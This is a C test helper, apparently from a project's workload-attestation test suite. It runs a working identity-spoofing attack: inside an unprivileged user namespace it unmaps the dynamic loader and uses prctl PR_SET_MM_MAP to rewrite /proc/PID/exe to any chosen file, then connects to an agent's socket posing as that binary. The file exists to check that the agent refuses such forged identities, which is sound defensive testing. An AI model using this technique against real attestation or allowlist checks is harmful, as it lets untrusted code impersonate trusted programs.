// exeswap is the attack TestAttestationRefusesExeRewrittenInUserNamespace
// runs: an unprivileged user, root in a user namespace of her own (unshare
// -Ur), holds CAP_CHECKPOINT_RESTORE there, and with it points her
// process's /proc/PID/exe at any file she can open (prctl PR_SET_MM_MAP,
// exe_fd) while it runs her code. The kernel refuses the change while the
// old executable is still mapped, so the program is started through the
// dynamic loader (the loader is then the executable) and unmaps the
// loader once libc no longer needs it.
//
//	unshare -Ur LOADER ./exeswap POSE-AS SOCKET HELPER
//
// It opens POSE-AS, swaps its executable for it, connects to the unix
// socket SOCKET, prints "connected", waits for a line on standard input,
// then starts HELPER (the test binary, RAMPART_WL_HELPER=speak) on the
// connection and waits for it: the process that connected, whose
// /proc/PID/exe the agent reads, stays alive and "runs" POSE-AS.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
#include <linux/prctl.h>

extern char **environ;

static void die(const char *what) {
	printf("%s: %s\n", what, strerror(errno));
	exit(1);
}

// Only raw system calls after the loader is unmapped: its code and data
// (which libc's wrappers may reach) are gone.
static void say(const char *s) { syscall(SYS_write, 1, s, strlen(s)); }

int main(int argc, char **argv) {
	if (argc != 4) {
		printf("usage: exeswap POSE-AS SOCKET HELPER\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	int exe = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (exe < 0) die("open");

	// The mm fields PR_SET_MM_MAP wants, kept as they are
	// (/proc/self/stat fields 26-28 and 45-51; proc(5)).
	FILE *f = fopen("/proc/self/stat", "r");
	if (!f) die("/proc/self/stat");
	static char buf[4096];
	size_t n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	if (!p) die("/proc/self/stat");
	unsigned long long v[64] = {0};
	int i = 3;
	for (char *tok = strtok(p + 2, " "); tok && i < 64; tok = strtok(NULL, " "), i++)
		v[i] = strtoull(tok, NULL, 10);
	struct prctl_mm_map m = {0};
	m.start_code = v[26];
	m.end_code = v[27];
	m.start_stack = v[28];
	m.start_data = v[45];
	m.end_data = v[46];
	m.start_brk = v[47];
	m.arg_start = v[48];
	m.arg_end = v[49];
	m.env_start = v[50];
	m.env_end = v[51];
	m.brk = (unsigned long)syscall(SYS_brk, 0);
	m.exe_fd = exe;

	// What the helper needs, built while libc still works.
	static char fdenv[64];
	static char *env[512];
	int e = 0;
	for (char **q = environ; *q && e < 500; q++)
		if (strncmp(*q, "RAMPART_WL_HELPER=", 18) != 0 && strncmp(*q, "RAMPART_WL_FD=", 14) != 0)
			env[e++] = *q;
	env[e++] = "RAMPART_WL_HELPER=speak";
	env[e++] = fdenv;
	env[e] = NULL;
	static char *hargv[2];
	hargv[0] = argv[3];
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	strncpy(sa.sun_path, argv[2], sizeof sa.sun_path - 1);

	// The loader's mappings, to be unmapped.
	static char self[4096];
	ssize_t k = readlink("/proc/self/exe", self, sizeof self - 1);
	if (k < 0) die("readlink /proc/self/exe");
	self[k] = 0;
	static unsigned long lo[64], hi[64];
	int nmaps = 0;
	f = fopen("/proc/self/maps", "r");
	if (!f) die("/proc/self/maps");
	static char line[4096];
	while (fgets(line, sizeof line, f) && nmaps < 64) {
		char *path = strchr(line, '/');
		if (!path) continue;
		path[strcspn(path, "\n")] = 0;
		if (strcmp(path, self) == 0 && sscanf(line, "%lx-%lx", &lo[nmaps], &hi[nmaps]) == 2) nmaps++;
	}
	fclose(f);

	for (int j = 0; j < nmaps; j++) syscall(SYS_munmap, lo[j], hi[j] - lo[j]);
	if (syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &m, sizeof m, 0) != 0) {
		say("prctl PR_SET_MM_MAP failed\n");
		syscall(SYS_exit_group, 3);
	}
	long s = syscall(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
	if (s < 0 || syscall(SYS_connect, s, &sa, sizeof sa) != 0) {
		say("connect failed\n");
		syscall(SYS_exit_group, 1);
	}
	// fdenv = "RAMPART_WL_FD=<s>"
	const char *pre = "RAMPART_WL_FD=";
	int w = 0;
	while (pre[w]) {
		fdenv[w] = pre[w];
		w++;
	}
	char digits[20];
	int nd = 0;
	long x = s;
	do {
		digits[nd++] = '0' + x % 10;
		x /= 10;
	} while (x);
	while (nd) fdenv[w++] = digits[--nd];
	fdenv[w] = 0;
	say("connected\n");
	char c;
	while (syscall(SYS_read, 0, &c, 1) == 1 && c != '\n') {
	}
	long pid = syscall(SYS_fork);
	if (pid == 0) {
		syscall(SYS_execve, hargv[0], hargv, env);
		say("execve failed\n");
		syscall(SYS_exit_group, 1);
	}
	int status = 0;
	syscall(SYS_wait4, pid, &status, 0, 0);
	syscall(SYS_exit_group, (status >> 8) & 0xff);
}
